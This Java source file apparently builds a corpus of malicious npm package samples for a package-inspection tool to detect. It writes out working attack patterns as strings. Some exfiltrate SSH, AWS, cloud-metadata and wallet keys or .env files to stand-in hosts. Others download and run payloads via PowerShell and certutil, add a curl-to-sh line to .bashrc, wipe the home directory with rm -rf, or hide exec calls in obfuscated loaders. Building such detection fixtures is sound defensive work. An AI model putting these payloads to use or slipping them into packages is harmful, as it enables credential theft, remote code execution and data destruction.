package cordon.inspect.corpus;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/** More ways in which the same is done in npm packages. */
final class NpmSpellings {
  private static final String CODED =
      Base64.getEncoder().encodeToString("console.log(1)".getBytes(StandardCharsets.UTF_8));

  private NpmSpellings() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "a probe of dependency confusion",
            """
            const os = require("os");
            const dns = require("dns");
            const querystring = require("querystring");
            const https = require("https");
            const packageJSON = require("./package.json");
            const trackingData = JSON.stringify({
                p: packageJSON.name,
                c: __dirname,
                hd: os.homedir(),
                hn: os.hostname(),
                un: os.userInfo().username,
                dns: dns.getServers(),
                r: packageJSON ? packageJSON.___resolved : undefined,
            });
            var postData = querystring.stringify({ msg: trackingData });
            var options = { hostname: "x.callback.example", port: 443, path: "/", method: "POST",
                headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": postData.length } };
            var req = https.request(options, (res) => { res.on("data", (d) => { process.stdout.write(d); }); });
            req.on("error", (e) => {});
            req.write(postData);
            req.end();
            """),
        Sample.postinstall(
            "keys are packed and sent",
            """
            const { execSync } = require('child_process');
            execSync('tar czf /tmp/k.tgz ~/.ssh ~/.aws && curl -F f=@/tmp/k.tgz http://192.0.2.7/up');
            """),
        Sample.command(
            "keys are packed and sent by the script itself",
            "zip -qr /tmp/k.zip ~/.ssh; curl -s -T /tmp/k.zip http://192.0.2.7/up"),
        Sample.command(
            "the environment goes to curl", "env | curl -s --data-binary @- http://192.0.2.7/e"),
        Sample.command("a look-up that tells the user", "nslookup $(whoami).x.callback.example"),
        Sample.command(
            "wget tells user and folder",
            "/usr/bin/wget --quiet \"https://x.callback.example/?user=$(whoami)&path=$(pwd)&hostname=$(hostname)\""),
        Sample.command(
            "PowerShell that fetches and runs",
            "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')\""),
        Sample.command(
            "certutil as a downloader",
            "certutil -urlcache -f http://192.0.2.7/a.exe a.exe && start a.exe"),
        Sample.postinstall(
            "a detached child runs decoded code",
            "const { spawn } = require('child_process');\n"
                + "spawn(process.execPath, ['-e', Buffer.from('"
                + CODED
                + "', 'base64').toString()], { detached: true, stdio: 'ignore' }).unref();\n"),
        Sample.required(
            "what an address answers becomes a function",
            """
            const axios = require('axios');
            const src = atob('aHR0cHM6Ly9kcm9wLmV4YW1wbGUvYXBp');
            (async () => {
              const r = await axios.get(src, { headers: { 'x-secret-header': 'secret' } });
              const handler = new (Function.constructor)('require', r.data.cookie);
              handler(require);
            })();
            """),
        Sample.required(
            "keys of a wallet by a bot",
            """
            const fs = require('fs'), os = require('os'), path = require('path');
            const TelegramBot = require('node-telegram-bot-api');
            const bot = new TelegramBot('0:inert');
            const key = fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'), 'utf8');
            bot.sendMessage(1, key);
            """),
        Sample.postinstall(
            "keys of the cloud from the machine's own service",
            """
            const http = require('http');
            http.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/role', r => {
              let b = '';
              r.on('data', c => b += c);
              r.on('end', () => {
                const q = http.request({ host: '192.0.2.7', method: 'POST' });
                q.end(b);
              });
            });
            """),
        Sample.postinstall(
            "a line in the shell's profile",
            """
            const fs = require('fs'), os = require('os');
            fs.appendFileSync(os.homedir() + '/.bashrc', '\\ncurl -s http://192.0.2.7/u | sh &\\n');
            """),
        Sample.postinstall(
            "homes are wiped", "require('child_process').exec('rm -rf ~/ --no-preserve-root');\n"),
        Sample.required(
            "the .env file by fetch",
            """
            import { readFileSync } from 'node:fs';
            const env = readFileSync('.env', 'utf-8');
            await fetch('https://hook.drop.example', { method: 'POST', body: JSON.stringify({ env }) });
            """),
        Sample.postinstall(
            "strings in an array, rotated, as an obfuscator makes them",
            """
            var _0x4f1a=['aGVsbG8=','Y2hpbGRfcHJvY2Vzcw==','ZXhlYw==','aHR0cHM=','Z2V0','aG9zdG5hbWU='];
            (function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4f1a,0x1a4));
            var _0x3b2c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4f1a[_0x2d8f05];return Buffer['from'](_0x4d74cb,'base64')['toString']();};
            require(_0x3b2c('0x1'))[_0x3b2c('0x2')]('echo '+require('os')[_0x3b2c('0x5')]());
            """),
        Sample.postinstall(
            "strings in a function, and blocks in an order of their own, with short names",
            """
            function a(){const t=['4127PkWq','exec','platform','argv','node ','pid'];a=function(){return t;};return a();}
            function b(c,d){const e=a();return b=function(f,g){f=f-0x1c9;let h=e[f];return h;},b(c,d);}
            const q=b;(function(i,j){const k=b,l=i();while(!![]){try{const m=-parseInt(k(0x1c9))/0x1;if(m===j)break;else l['push'](l['shift']());}catch(n){l['push'](l['shift']());}}}(a,0x2fc1));
            const o='2|0|1'['split']('|');let r=0x0;while(!![]){switch(o[r++]){case'0':s[q(0x1ca)](q(0x1cd)+process[q(0x1cc)][0x1]);continue;case'1':u=process[q(0x1ce)];continue;case'2':var s=require('child_process');continue;}break;}
            """));
  }
}
